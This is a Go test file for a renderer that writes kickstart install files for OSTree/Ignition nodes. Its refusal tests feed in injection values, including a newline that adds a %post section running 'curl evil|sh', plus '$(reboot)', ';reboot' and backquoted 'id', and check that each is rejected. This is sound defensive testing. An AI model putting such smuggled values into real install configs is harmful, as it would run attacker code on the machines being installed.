package kickstart

import (
	"encoding/json"
	"errors"
	"os/exec"
	"reflect"
	"strings"
	"testing"
)

const (
	ostreeURL   = "http://10.0.0.5:8080/ostree"
	ignitionURL = "http://10.0.0.5:8080/ks/node.ign"
)

func base() Config { return Config{OSTreeURL: ostreeURL, IgnitionURL: ignitionURL} }

// TestRender checks the file line by line: the documented install by
// default, and each setting where it lands.
func TestRender(t *testing.T) {
	tests := []struct {
		name   string
		config func(*Config)
		want   []string
	}{
		{
			name:   "defaults: the documented install",
			config: func(*Config) {},
			want: []string{
				"# OCK node install, written by ocne-image",
				"text",
				"reboot",
				"keyboard us",
				"lang en_US.UTF-8",
				"timezone UTC --utc",
				"selinux --enforcing",
				"firewall --use-system-defaults",
				"network --bootproto=dhcp --activate",
				"rootpw --lock",
				"",
				"zerombr",
				"clearpart --all --initlabel",
				"part /boot --fstype=xfs --label=boot --size=1024",
				"part /boot/efi --fstype=efi --label=efi --size=512",
				"part / --fstype=xfs --label=root --grow",
				"",
				"services --enabled=ostree-remount",
				`bootloader --append "rw ip=dhcp rd.neednet=1 ignition.platform.id=metal ignition.config.url=http://10.0.0.5:8080/ks/node.ign ignition.firstboot=1"`,
				"ostreesetup --nogpg --osname ock --url http://10.0.0.5:8080/ostree --ref ock",
			},
		},
		{
			name: "every setting",
			config: func(c *Config) {
				c.OSTreeURL = "https://mirror.example.com:8443/repos/ock?x=1"
				c.IgnitionURL = "tftp://10.0.0.1/ign/cp-1.ign"
				c.Ref, c.OSName, c.Remote = "ock/1.33/x86_64", "ock2", "mirror"
				c.KernelArgs = []string{"console=ttyS0,115200n8", "quiet"}
				c.Network = Network{Device: "enp1s0", BootProto: "static", IP: "192.168.1.20", Netmask: "255.255.255.0",
					Gateway: "192.168.1.1", Nameservers: []string{"192.168.1.2", "192.168.1.3"}, Hostname: "cp-1.example.com"}
				c.SELinux, c.Timezone, c.Keyboard, c.Lang = "permissive", "Europe/Berlin", "de-nodeadkeys", "de_DE.UTF-8"
				c.Disk, c.Firmware, c.BootSizeMiB, c.FSType, c.RootSizeMiB = "disk/by-id/wwn-0x5000c500a1b2c3d4", "bios", 2048, "ext4", 40960
				c.Finish = "poweroff"
				c.EnableServices, c.DisableServices = []string{"sshd", "getty@ttyS0"}, []string{"cloud-init"}
			},
			want: []string{
				"# OCK node install, written by ocne-image",
				"text",
				"poweroff",
				"keyboard de-nodeadkeys",
				"lang de_DE.UTF-8",
				"timezone Europe/Berlin --utc",
				"selinux --permissive",
				"firewall --use-system-defaults",
				"network --bootproto=static --device=enp1s0 --ip=192.168.1.20 --netmask=255.255.255.0 --gateway=192.168.1.1 --nameserver=192.168.1.2,192.168.1.3 --hostname=cp-1.example.com --activate",
				"rootpw --lock",
				"",
				"ignoredisk --only-use=disk/by-id/wwn-0x5000c500a1b2c3d4",
				"zerombr",
				"clearpart --all --initlabel",
				"part /boot --fstype=ext4 --label=boot --size=2048",
				"part biosboot --fstype=biosboot --size=1",
				"part / --fstype=ext4 --label=root --size=40960",
				"",
				"services --enabled=ostree-remount,sshd,getty@ttyS0 --disabled=cloud-init",
				`bootloader --append "rw ip=192.168.1.20::192.168.1.1:255.255.255.0:cp-1.example.com:enp1s0:none nameserver=192.168.1.2 nameserver=192.168.1.3 rd.neednet=1 ignition.platform.id=metal ignition.config.url=tftp://10.0.0.1/ign/cp-1.ign ignition.firstboot=1 console=ttyS0,115200n8 quiet"`,
				"ostreesetup --nogpg --osname ock2 --remote mirror --url https://mirror.example.com:8443/repos/ock?x=1 --ref ock/1.33/x86_64",
			},
		},
		{
			name:   "dhcp on a named interface",
			config: func(c *Config) { c.Network = Network{Device: "eth1", Hostname: "w1"} },
			want:   []string{"network --bootproto=dhcp --device=eth1 --hostname=w1 --activate", `bootloader --append "rw ip=eth1:dhcp rd.neednet=1`},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := base()
			tt.config(&c)
			out, err := Render(c)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasSuffix(string(out), "\n") {
				t.Error("file does not end with a newline")
			}
			got := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
			if len(tt.want) == len(got) {
				for i := range got {
					if got[i] != tt.want[i] {
						t.Errorf("line %d:\n got %s\nwant %s", i+1, got[i], tt.want[i])
					}
				}
				return
			}
			// A partial expectation: each wanted line (or line start) is present.
			for _, w := range tt.want {
				found := false
				for _, g := range got {
					found = found || strings.HasPrefix(g, w)
				}
				if !found {
					t.Errorf("no line %q in\n%s", w, out)
				}
			}
		})
	}
}

// TestRenderRefuses covers every kind of value that would break or inject
// into the file: each is refused with an error naming the field.
func TestRenderRefuses(t *testing.T) {
	tests := []struct {
		name      string
		config    func(*Config)
		wantField string
		wantText  string
	}{
		{"no OSTree URL", func(c *Config) { c.OSTreeURL = "" }, "OSTreeURL", "must not be empty"},
		{"no Ignition URL", func(c *Config) { c.IgnitionURL = "" }, "IgnitionURL", "must not be empty"},
		{"newline adds a %post", func(c *Config) { c.IgnitionURL = ignitionURL + "\n%post\ncurl evil|sh\n%end" }, "IgnitionURL", "line break"},
		{"carriage return", func(c *Config) { c.OSTreeURL = ostreeURL + "\r" }, "OSTreeURL", "line break"},
		{"space in URL", func(c *Config) { c.OSTreeURL = "http://10.0.0.5:8080/my repo" }, "OSTreeURL", "space"},
		{"tab in URL", func(c *Config) { c.OSTreeURL = "http://10.0.0.5:8080/\trepo" }, "OSTreeURL", "space"},
		{"double quote closes --append", func(c *Config) { c.IgnitionURL = `http://x/a.ign" --location=none "` }, "IgnitionURL", `'"'`},
		{"double quote", func(c *Config) { c.IgnitionURL = `http://x/a".ign` }, "IgnitionURL", `'"'`},
		{"single quote", func(c *Config) { c.OSTreeURL = "http://x/o'stree" }, "OSTreeURL", `'\''`},
		{"backslash", func(c *Config) { c.OSTreeURL = `http://x/o\stree` }, "OSTreeURL", `'\\'`},
		{"# starts a comment", func(c *Config) { c.IgnitionURL = "http://x/a.ign#frag" }, "IgnitionURL", `'#'`},
		{"$ expands in GRUB", func(c *Config) { c.IgnitionURL = "http://x/$(reboot)" }, "IgnitionURL", `'$'`},
		{"; ends a GRUB command", func(c *Config) { c.KernelArgs = []string{"a=b;reboot"} }, "KernelArgs[0]", `';'`},
		{"backquote", func(c *Config) { c.KernelArgs = []string{"x", "a=`id`"} }, "KernelArgs[1]", "'`'"},
		{"empty kernel arg", func(c *Config) { c.KernelArgs = []string{""} }, "KernelArgs[0]", "empty"},
		{"kernel arg without name", func(c *Config) { c.KernelArgs = []string{"=x"} }, "KernelArgs[0]", "no name"},
		{"non-ASCII", func(c *Config) { c.Lang = "en_US.UTF-8\u00a0" }, "Lang", "printable ASCII"},
		{"NUL", func(c *Config) { c.Timezone = "UTC\x00" }, "Timezone", "printable ASCII"},
		{"ftp OSTree URL", func(c *Config) { c.OSTreeURL = "ftp://x/ostree" }, "OSTreeURL", "scheme http, https, file"},
		{"relative OSTree URL", func(c *Config) { c.OSTreeURL = "/srv/ostree" }, "OSTreeURL", "scheme http, https, file"},
		{"file URL without absolute path", func(c *Config) { c.OSTreeURL = "file:ostree" }, "OSTreeURL", "file:///"},
		{"URL without host", func(c *Config) { c.IgnitionURL = "http:///a.ign" }, "IgnitionURL", "no host"},
		{"data Ignition URL", func(c *Config) { c.IgnitionURL = "data:,x" }, "IgnitionURL", "scheme http, https, tftp, s3, gs"},
		{"option as a value", func(c *Config) { c.Timezone = "--isUtc" }, "Timezone", "time zone"},
		{"option as a keymap", func(c *Config) { c.Keyboard = "--xlayouts=de" }, "Keyboard", "keymap"},
		{"ref with space-free injection", func(c *Config) { c.Ref = "ock,--url=http://evil" }, "Ref", "OSTree ref"},
		{"osname path", func(c *Config) { c.OSName = "../ock" }, "OSName", "OS name"},
		{"bad SELinux", func(c *Config) { c.SELinux = "off" }, "SELinux", "enforcing, permissive, disabled"},
		{"bad finish", func(c *Config) { c.Finish = "kexec" }, "Finish", "reboot, poweroff"},
		{"bad firmware", func(c *Config) { c.Firmware = "coreboot" }, "Firmware", "uefi, bios"},
		{"bad fstype", func(c *Config) { c.FSType = "btrfs" }, "FSType", "xfs, ext4"},
		{"small /boot", func(c *Config) { c.BootSizeMiB = 10 }, "BootSizeMiB", "at least 256"},
		{"negative /", func(c *Config) { c.RootSizeMiB = -1 }, "RootSizeMiB", "at least 0"},
		{"disk option", func(c *Config) { c.Disk = "-sda" }, "Disk", "disk name"},
		{"service list injection", func(c *Config) { c.EnableServices = []string{"sshd,--disabled=ostree-remount"} }, "EnableServices[0]", "unit name"},
		{"bad boot proto", func(c *Config) { c.Network.BootProto = "bootp" }, "Network.BootProto", "dhcp, static"},
		{"static without IP", func(c *Config) { c.Network = Network{BootProto: "static", Device: "eth0", Netmask: "255.255.255.0"} }, "Network.IP", "empty"},
		{"static without device", func(c *Config) { c.Network = Network{BootProto: "static", IP: "10.0.0.9", Netmask: "255.255.255.0"} }, "Network.Device", "static address"},
		{"static IPv6", func(c *Config) {
			c.Network = Network{BootProto: "static", Device: "eth0", IP: "fd00::5", Netmask: "255.255.255.0"}
		}, "Network.IP", "IPv4"},
		{"bad netmask", func(c *Config) {
			c.Network = Network{BootProto: "static", Device: "eth0", IP: "10.0.0.9", Netmask: "255.0.255.0"}
		}, "Network.Netmask", "netmask"},
		{"zero netmask", func(c *Config) {
			c.Network = Network{BootProto: "static", Device: "eth0", IP: "10.0.0.9", Netmask: "0.0.0.0"}
		}, "Network.Netmask", "netmask"},
		{"colon in hostname breaks ip=", func(c *Config) { c.Network.Hostname = "a:b" }, "Network.Hostname", "host name"},
		{"MAC as device", func(c *Config) { c.Network.Device = "52:54:00:12:34:56" }, "Network.Device", "interface name"},
		{"static address with dhcp", func(c *Config) { c.Network.IP = "10.0.0.9" }, "Network.IP", "static"},
		{"nameserver with dhcp", func(c *Config) { c.Network.Nameservers = []string{"10.0.0.1"} }, "Network.Nameservers", "static"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := base()
			tt.config(&c)
			out, err := Render(c)
			var fe *FieldError
			if !errors.As(err, &fe) {
				t.Fatalf("got %v and\n%s\nwant a FieldError", err, out)
			}
			if fe.Field != tt.wantField || !strings.Contains(err.Error(), tt.wantText) {
				t.Errorf("got %q (field %s), want field %s and %q", err, fe.Field, tt.wantField, tt.wantText)
			}
			if strings.ContainsAny(err.Error(), "\n\r") {
				t.Errorf("error is not one line: %q", err)
			}
		})
	}
}

// TestRenderTokens splits the file the way pykickstart does
// (shlex.split(line, comments=True), with Python's own shlex) and checks
// that each command gets exactly the arguments meant, with values at the
// edge of what is allowed.
func TestRenderTokens(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: runs python3's shlex")
	}
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed (test/scripts/deps.sh installs it)")
	}
	c := base()
	c.OSTreeURL = "https://user:p%40ss@mirror.example.com:8443/a=b/ostree/?x=1,2"
	c.IgnitionURL = "s3://bucket/path/with%20escape/node.ign"
	c.Ref = "ock/1.33"
	c.KernelArgs = []string{"console=tty0", "foo=", "a=b=c", "x,y:z@w+%~!*()[]^"}
	c.Network = Network{BootProto: "static", Device: "eth0", IP: "10.1.2.3", Netmask: "255.255.0.0", Hostname: "n1"}
	c.EnableServices, c.DisableServices, c.Disk = []string{"sshd"}, []string{"kdump"}, "vda"
	out, err := Render(c)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(py, "-c", `import json, shlex, sys
print(json.dumps([shlex.split(l, comments=True) for l in sys.stdin.read().splitlines()]))`)
	cmd.Stdin = strings.NewReader(string(out))
	js, err := cmd.Output()
	if err != nil {
		t.Fatalf("python3 shlex: %v", err)
	}
	var lines [][]string
	if err := json.Unmarshal(js, &lines); err != nil {
		t.Fatal(err)
	}
	byCmd := map[string][][]string{}
	for _, l := range lines {
		if len(l) > 0 {
			byCmd[l[0]] = append(byCmd[l[0]], l[1:])
		}
	}
	want := map[string][][]string{
		"ostreesetup": {{"--nogpg", "--osname", "ock", "--url", c.OSTreeURL, "--ref", "ock/1.33"}},
		"bootloader": {{"--append", "rw ip=10.1.2.3:::255.255.0.0:n1:eth0:none rd.neednet=1 ignition.platform.id=metal ignition.config.url=" +
			c.IgnitionURL + " ignition.firstboot=1 console=tty0 foo= a=b=c x,y:z@w+%~!*()[]^"}},
		"network":  {{"--bootproto=static", "--device=eth0", "--ip=10.1.2.3", "--netmask=255.255.0.0", "--hostname=n1", "--activate"}},
		"services": {{"--enabled=ostree-remount,sshd", "--disabled=kdump"}},
		"timezone": {{"UTC", "--utc"}},
	}
	for name, args := range want {
		if !reflect.DeepEqual(byCmd[name], args) {
			t.Errorf("%s: got %q, want %q", name, byCmd[name], args)
		}
	}
	// pykickstart keeps only the last of a command that may appear once.
	for name, uses := range byCmd {
		if len(uses) > 1 && name != "part" && name != "network" {
			t.Errorf("%s appears %d times: the last would replace the others", name, len(uses))
		}
	}
	if len(lines) != strings.Count(string(out), "\n") {
		t.Errorf("%d lines split, file has %d", len(lines), strings.Count(string(out), "\n"))
	}
	if _, ok := byCmd["%post"]; ok {
		t.Errorf("a %%post section appeared")
	}
}
